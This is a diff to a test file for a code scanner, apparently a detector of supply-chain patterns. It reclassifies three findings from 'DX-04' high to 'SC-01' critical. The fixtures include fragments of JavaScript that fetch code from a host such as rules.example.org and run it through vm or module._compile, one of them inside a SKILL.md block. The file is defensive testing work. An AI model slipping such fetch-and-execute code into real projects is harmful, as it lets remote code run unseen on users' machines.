@@ -50,7 +50,7 @@ def test_https_get_chunks_joined_then_run_in_a_vm():
               "  }).on('error', () => {});\n"
               "}\n"
               "update('https://rules.example.org/latest.js');\n")
-    assert _scan(script) == [("DX-04", "high", 10)]
+    assert _scan(script) == [("SC-01", "critical", 10)]  # run by vm: a plugin installed from its host
 
 
 def test_a_typescript_download_handed_to_bash_c():
@@ -109,7 +109,7 @@ def test_module_compile_of_a_got_body():
               "  const m = new Module('telemetry');\n"
               "  m._compile(body, 'telemetry.js');\n"
               "})();\n")
-    assert _scan(script) == [("DX-04", "high", 6)]
+    assert _scan(script) == [("SC-01", "critical", 6)]  # module._compile of a download: a module installed from its host
 
 
 def test_a_response_text_given_to_a_timer():
@@ -232,7 +232,7 @@ def test_a_fenced_block_in_skill_md_is_followed():
           "});\n"
           "```\n")
     r = scan_tree(Tree(files={"SKILL.md": md.encode()}))
-    assert [(f.rule, f.severity, f.line) for f in r.findings if "data flow" in (f.note or "")] == [("DX-04", "high", 14)]
+    assert [(f.rule, f.severity, f.line) for f in r.findings if "data flow" in (f.note or "")] == [("SC-01", "critical", 14)]
 
 
 @pytest.mark.parametrize("broken", [
